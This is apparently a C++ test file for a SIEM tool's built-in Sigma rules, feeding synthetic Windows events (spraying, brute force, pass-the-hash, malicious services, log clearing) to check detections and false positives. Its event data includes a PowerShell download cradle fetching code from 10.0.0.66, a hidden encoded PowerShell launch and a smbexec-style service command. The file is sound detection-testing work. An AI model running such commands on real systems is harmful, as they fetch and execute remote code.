// The built-in Sigma rules (rules/sigma), end to end: a SIEM export written here with known truth
// (the events each rule must count, and the near misses it must not), ingested and hunted by the
// binary. One test per rule, each with its false-positive side.
#include "siem_export.hpp"

using namespace treeline;
using namespace treeline::test;


TEST_CASE("Built-in Sigma: password spraying from one address, not a few accounts or a local source", "[sigma][builtin]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    for (int i = 0; i < 12; ++i) e.failed_logon("SRV01.corp.local", i * 30, fmt::format("user{:02}", i), "10.0.0.66");
    for (int i = 0; i < 9; ++i) e.failed_logon("SRV01.corp.local", i * 30, fmt::format("user{:02}", i), "10.0.0.77");
    for (int i = 0; i < 12; ++i) e.failed_logon("SRV01.corp.local", i * 30, fmt::format("user{:02}", i), "-");
    // Spread out: 10 accounts, but over five hours.
    for (int i = 0; i < 10; ++i) e.failed_logon("SRV01.corp.local", i * 1800, fmt::format("slow{:02}", i), "10.0.0.88");
    for (int i = 0; i < 10; ++i) e.kerberos_failed("DC01.corp.local", 100 + i, fmt::format("k{:02}", i), "::ffff:10.0.0.99");
  });
  CHECK(count(h, "action = 'password_spraying'") == 2);
  CHECK(count(h, "action = 'password_spraying' AND json_extract(matched, '$.IpAddress') = '10.0.0.66' "
                 "AND json_extract(matched, '$.count') = 12 AND event_count = 12 AND severity = 'high' "
                 "AND attack = 'T1110.003'") == 1);
  CHECK(count(h, "action = 'password_spraying' AND json_extract(matched, '$.IpAddress') = '::ffff:10.0.0.99' "
                 "AND event_count = 10") == 1);
  // The parts are not findings of their own.
  CHECK(count(h, "action IN ('failed_logon_from_address', 'kerberos_preauth_failed_from_address')") == 0);
  // finding_events_v names each counted record with its provenance.
  CHECK(test::scalar(h.db, "SELECT count(DISTINCT e.record_id) FROM finding_events_v e JOIN findings f USING (finding_id) "
                           "WHERE f.action = 'password_spraying' AND json_extract(f.matched, '$.IpAddress') = '10.0.0.66' "
                           "AND e.event_id = 4625") == 12);
}

TEST_CASE("Built-in Sigma: password spraying through explicit credentials from one process", "[sigma][builtin]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    for (int i = 0; i < 10; ++i)
      e.explicit_credentials("WKS07.corp.local", i * 10, fmt::format("user{:02}", i), "fs01.corp.local", "0x1a2c",
                             "C:\\Users\\alice\\AppData\\Local\\Temp\\spray.exe");
    // One account again and again: not spraying (and below a storm).
    for (int i = 0; i < 10; ++i)
      e.explicit_credentials("WKS07.corp.local", i * 10, "svc_backup", "fs01.corp.local", "0x2b3c",
                             "C:\\Windows\\System32\\runas.exe");
  });
  CHECK(count(h, "action = 'password_spraying_explicit_credentials'") == 1);
  CHECK(count(h, "action = 'password_spraying_explicit_credentials' AND json_extract(matched, '$.ProcessId') = '0x1a2c' "
                 "AND json_extract(matched, '$.count') = 10") == 1);
  CHECK(count(h, "action = 'explicit_credential_storm'") == 0);
}

TEST_CASE("Built-in Sigma: brute force against one account, per host, five within five minutes", "[sigma][builtin]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    for (int i = 0; i < 12; ++i) e.failed_logon("SRV01.corp.local", i * 20, "administrator", "10.0.0.66");
    for (int i = 0; i < 4; ++i) e.failed_logon("SRV01.corp.local", i * 20, "bob", "10.0.0.66");  // one short
    for (int i = 0; i < 12; ++i) e.failed_logon("SRV01.corp.local", i * 900, "carol", "10.0.0.66");  // 3 hours
    for (int i = 0; i < 11; ++i) e.kerberos_failed("DC01.corp.local", i * 5, "dave", "::ffff:10.0.0.66");
    // Unknown principal, not a wrong password: not a guess at dave's password.
    for (int i = 0; i < 11; ++i) e.kerberos_failed("DC01.corp.local", i * 5, "erin", "::ffff:10.0.0.66", "0x6");
    // 4776 and 4625 of the same attempts on one host: counted apart, never added up.
    for (int i = 0; i < 4; ++i) {
      e.failed_logon("FS01.corp.local", i * 2, "frank", "10.0.0.70");
      e.add("FS01.corp.local", i * 2, "Security", 4776,
            {{"PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"}, {"TargetUserName", "frank"},
             {"Workstation", "KALI"}, {"Status", "0xc000006a"}});
    }
  });
  CHECK(count(h, "action LIKE 'brute_force_one_account%'") == 2);
  CHECK(count(h, "action = 'brute_force_one_account' AND json_extract(matched, '$.TargetUserName') = 'administrator' "
                 "AND json_extract(matched, '$.count') = 12 AND host = 'srv01'") == 1);
  CHECK(count(h, "action = 'brute_force_one_account' AND json_extract(matched, '$.TargetUserName') = 'dave' "
                 "AND event_count = 11 AND host = 'dc01'") == 1);
  // Eleven of one account from one address is brute force, and not spraying.
  CHECK(count(h, "action = 'password_spraying'") == 0);
}

TEST_CASE("Built-in Sigma: an explicit-credential storm from one process, not services logging on locally", "[sigma][builtin]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    for (int i = 0; i < 25; ++i)
      e.explicit_credentials("WKS07.corp.local", i * 6, "admin_it", fmt::format("srv{:02}.corp.local", i), "0x1f00",
                             "C:\\Tools\\PsExec64.exe");
    for (int i = 0; i < 25; ++i)
      e.explicit_credentials("WKS07.corp.local", i * 6, "svc_sql", "localhost", "0x260",
                             "C:\\Windows\\System32\\services.exe");
    // 19 from another process: one short.
    for (int i = 0; i < 19; ++i)
      e.explicit_credentials("WKS07.corp.local", i * 6, "admin_it", "fs01.corp.local", "0x2200",
                             "C:\\Windows\\System32\\wbem\\WMIC.exe");
  });
  CHECK(count(h, "action = 'explicit_credential_storm'") == 1);
  CHECK(count(h, "action = 'explicit_credential_storm' AND json_extract(matched, '$.ProcessId') = '0x1f00' "
                 "AND event_count = 25 AND detail LIKE '%25 events within 2 min 24 s%'") == 1);
}

TEST_CASE("Built-in Sigma: a new account added to a privileged group, not to another group or long after", "[sigma][builtin]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    auto created = [&](double t, const std::string& sid, const std::string& name) {
      e.add("DC01.corp.local", t, "Security", 4720,
            {{"TargetUserName", name}, {"TargetDomainName", "CORP"}, {"TargetSid", sid}, {"SubjectUserName", "mallory"}});
    };
    auto added = [&](double t, int id, const std::string& member, const std::string& group_sid) {
      e.add("DC01.corp.local", t, "Security", id,
            {{"MemberName", "-"}, {"MemberSid", member}, {"TargetUserName", "group"}, {"TargetSid", group_sid},
             {"SubjectUserName", "mallory"}});
    };
    created(0, "S-1-5-21-7-1601", "backdoor");
    added(90, 4728, "S-1-5-21-7-1601", "S-1-5-21-7-512");  // Domain Admins
    created(0, "S-1-5-21-7-1602", "intern");
    added(60, 4732, "S-1-5-21-7-1602", "S-1-5-21-7-1103");  // a plain local group
    created(0, "S-1-5-21-7-1603", "old");
    added(3 * 86400, 4732, "S-1-5-21-7-1603", "S-1-5-32-544");  // Administrators, three days later
    added(30, 4732, "S-1-5-21-7-1100", "S-1-5-32-544");  // an account not created in this log
  });
  CHECK(count(h, "action = 'new_account_privileged_group'") == 1);
  CHECK(count(h, "action = 'new_account_privileged_group' AND json_extract(matched, '$.account') = 'S-1-5-21-7-1601' "
                 "AND event_count = 2 AND severity = 'high'") == 1);
}

TEST_CASE("Built-in Sigma: pass-the-hash logons (seclogo type 9, NTLM without a session key), not their look-alikes", "[sigma][builtin]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    e.logon("WKS07.corp.local", 0, "alice", 9, "seclogo", "Negotiate", "0");
    e.logon("WKS07.corp.local", 1, "alice", 2, "User32", "Negotiate", "0");  // interactive
    e.logon("FS01.corp.local", 2, "administrator", 3, "NtLmSsp", "NTLM", "0");
    e.logon("FS01.corp.local", 3, "ANONYMOUS LOGON", 3, "NtLmSsp", "NTLM", "0");  // the null session
    e.logon("FS01.corp.local", 4, "bob", 3, "NtLmSsp", "NTLM", "128");  // a session key: a password
    e.logon("FS01.corp.local", 5, "WKS07$", 3, "NtLmSsp", "NTLM", "0");  // a machine account
  });
  CHECK(count(h, "action = 'new_credentials_logon_seclogo'") == 1);
  CHECK(count(h, "action = 'new_credentials_logon_seclogo' AND host = 'wks07' AND event_count = 1") == 1);
  CHECK(count(h, "action = 'ntlm_logon_without_session_key'") == 1);
  CHECK(count(h, "action = 'ntlm_logon_without_session_key' AND json_extract(matched, '$.TargetUserName') = 'administrator' "
                 "AND json_extract(matched, '$.KeyLength') = '0' AND host = 'fs01'") == 1);
}

TEST_CASE("Built-in Sigma: a service that runs a command interpreter or a binary on an admin share", "[sigma][builtin]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    auto service = [&](double t, const std::string& name, const std::string& image) {
      e.add("SRV01.corp.local", t, "System", 7045,
            {{"ServiceName", name}, {"ImagePath", image}, {"ServiceType", "user mode service"},
             {"StartType", "demand start"}, {"AccountName", "LocalSystem"}},
            "Service Control Manager");
    };
    service(0, "BTOBTO", "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat");
    service(10, "xKzvPq", "\\\\10.0.0.66\\ADMIN$\\xKzvPq.exe");
    service(20, "VendorUpdate", "\"C:\\Program Files\\Vendor\\update.exe\" /service");
    e.add("SRV01.corp.local", 0, "Security", 4697,
          {{"ServiceName", "BTOBTO"}, {"ServiceFileName", "%COMSPEC% /Q /c echo cd"}, {"SubjectLogonId", "0x5a3c1"}});
  });
  CHECK(count(h, "action = 'suspicious_service_install'") == 3);
  CHECK(count(h, "action = 'suspicious_service_install' AND json_extract(matched, '$.ImagePath') LIKE '%VendorUpdate%'") == 0);
  CHECK(count(h, "action = 'suspicious_service_install' AND json_extract(matched, '$.ImagePath') LIKE '\\\\10.0.0.66%'") == 1);
  CHECK(count(h, "action = 'suspicious_service_install' AND json_extract(matched, '$.ServiceFileName') LIKE '%COMSPEC%'") == 1);
}

TEST_CASE("Built-in Sigma: the audit trail removed, then activity within the hour on that host", "[sigma][builtin]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    auto process = [&](const std::string& host, double t) {
      e.add(host, t, "Security", 4688,
            {{"SubjectUserName", "mallory"}, {"SubjectLogonId", "0x5a3c1"}, {"NewProcessId", "0x1f30"},
             {"NewProcessName", "C:\\Windows\\System32\\whoami.exe"}, {"ProcessId", "0x1a00"},
             {"CommandLine", "whoami /all"}, {"ParentProcessName", "C:\\Windows\\System32\\cmd.exe"}});
    };
    auto clear = [&](const std::string& host, double t) {
      e.add(host, t, "Security", 1102, {{"SubjectUserName", "mallory"}, {"SubjectLogonId", "0x5a3c1"}},
            "Microsoft-Windows-Eventlog");
    };
    clear("WKS01.corp.local", 0);
    process("WKS01.corp.local", 30);
    clear("WKS02.corp.local", 0);
    process("WKS02.corp.local", 7200);  // two hours later
    process("WKS03.corp.local", 0);     // activity, then a clear, then nothing
    clear("WKS03.corp.local", 10);
    e.add("WKS04.corp.local", 0, "Security", 4719,
          {{"SubjectUserName", "mallory"}, {"CategoryId", "%%8274"}, {"SubcategoryId", "%%12801"},
           {"AuditPolicyChanges", "%%8448, %%8450"}});
    process("WKS04.corp.local", 60);
    e.add("WKS05.corp.local", 0, "System", 104, {{"SubjectUserName", "mallory"}, {"Channel", "System"}},
          "Microsoft-Windows-Eventlog");
    process("WKS05.corp.local", 45);
  });
  CHECK(count(h, "action = 'audit_trail_removed_then_activity'") == 2);
  CHECK(count(h, "action = 'audit_trail_removed_then_activity' AND host = 'wks01' AND event_count = 2") == 1);
  CHECK(count(h, "action = 'audit_trail_removed_then_activity' AND host = 'wks04'") == 1);
  CHECK(count(h, "action = 'system_log_cleared_then_activity' AND host = 'wks05'") == 1);
  // The clear and the activity belong to different processes (the clear to none it names): the
  // finding names no process, and lists both events.
  CHECK(count(h, "action = 'audit_trail_removed_then_activity' AND host = 'wks01' AND process_key IS NULL") == 1);
  CHECK(test::scalar(h.db, "SELECT 10 * sum(e.event_id = 1102) + sum(e.event_id = 4688) FROM finding_events_v e "
                           "JOIN findings f USING (finding_id) WHERE f.host = 'wks01' "
                           "AND f.action = 'audit_trail_removed_then_activity'") == 11);
}

TEST_CASE("A script block (4104) belongs to the PowerShell process that logged it (Execution ProcessID)", "[sigma][cli]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    auto process = [&](double t, const std::string& pid, const std::string& ppid, const std::string& image,
                       const std::string& parent, const std::string& cmd) {
      e.add("WKS07.corp.local", t, "Security", 4688,
            {{"SubjectUserName", "alice"}, {"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x5a3c1"},
             {"NewProcessId", pid}, {"NewProcessName", image}, {"ProcessId", ppid}, {"CommandLine", cmd},
             {"TokenElevationType", "%%1938"}, {"ParentProcessName", parent}, {"MandatoryLabel", "S-1-16-8192"}});
    };
    process(0, "0x1f00", "0x1000", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe", "cmd.exe");
    process(5, "0x1a2c", "0x1f00", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "C:\\Windows\\System32\\cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA");
    auto block = [&](double t, const std::string& id, const std::string& url, int pid) {
      e.add("WKS07.corp.local", t, "Microsoft-Windows-PowerShell/Operational", 4104,
            {{"MessageNumber", "1"}, {"MessageTotal", "1"}, {"ScriptBlockId", id},
             {"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('" + url + "')"}},
            "Microsoft-Windows-PowerShell", pid);
    };
    block(6, "{5f0d}", "http://10.0.0.66/a", 0x1a2c);
    block(7, "{6a1e}", "http://10.0.0.66/b", 4242);  // a PID no process held then: no process
  }, "title: download cradle in a script block\nid: 00000000-0000-4000-8000-000000000021\nlevel: high\n"
     "logsource:\n  product: windows\n  category: ps_script\ndetection:\n"
     "  sel:\n    ScriptBlockText|contains: 'DownloadString'\n  condition: sel\n");
  CHECK(test::scalar(h.db, "SELECT count(*) FROM events_v WHERE event_id = 4104 AND execution_pid IS NOT NULL") == 2);
  const std::string rule = "rule_id = '00000000-0000-4000-8000-000000000021'";
  CHECK(count(h, rule) == 2);
  CHECK(count(h, rule + " AND image LIKE '%\\powershell.exe' AND pid = 6700") == 1);
  CHECK(count(h, rule + " AND process_key IS NULL") == 1);
  // Its chain is the process: the report's ancestry (cmd.exe, then explorer) comes from the tree.
  CHECK(test::scalar(h.db, "SELECT count(*) FROM findings f JOIN process_edges e ON e.child_key = f.process_key "
                           "JOIN processes p ON p.process_key = e.parent_key WHERE f." + rule +
                           " AND p.image LIKE '%\\cmd.exe'") == 1);
}

TEST_CASE("A Security event with no process still names its logon: the finding says whose session, from where", "[sigma][cli]") {
  Hunted h;
  hunt_export(h, [](Export& e) {
    e.add("DC01.corp.local", 0, "Security", 4624,
          {{"TargetUserName", "mallory"}, {"TargetDomainName", "CORP"}, {"TargetLogonId", "0x5a3c1"},
           {"LogonType", "10"}, {"LogonProcessName", "User32"}, {"AuthenticationPackageName", "Negotiate"},
           {"IpAddress", "10.0.0.66"}, {"KeyLength", "0"}});
    auto created = [&](const std::string& host, const std::string& name) {
      e.add(host, 60, "Security", 4720,
            {{"TargetUserName", name}, {"TargetSid", "S-1-5-21-7-1601"}, {"SubjectUserName", "mallory"},
             {"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x5a3c1"}});
    };
    created("DC01.corp.local", "backdoor");
    created("DC02.corp.local", "backdoor2");  // the same logon id, but no logon before it on this host
  }, "title: user account created\nid: 00000000-0000-4000-8000-000000000031\nlevel: medium\n"
     "logsource:\n  product: windows\n  service: security\ndetection:\n  sel:\n    EventID: 4720\n"
     "  condition: sel\n");
  const std::string rule = "rule_id = '00000000-0000-4000-8000-000000000031'";
  CHECK(count(h, rule) == 2);
  CHECK(count(h, rule + " AND host = 'dc01' AND user_name = 'CORP\\mallory' AND ip_address = '10.0.0.66' "
                        "AND logon_type = 10 AND process_key IS NULL") == 1);
  CHECK(count(h, rule + " AND host = 'dc02' AND user_name IS NULL") == 1);
}

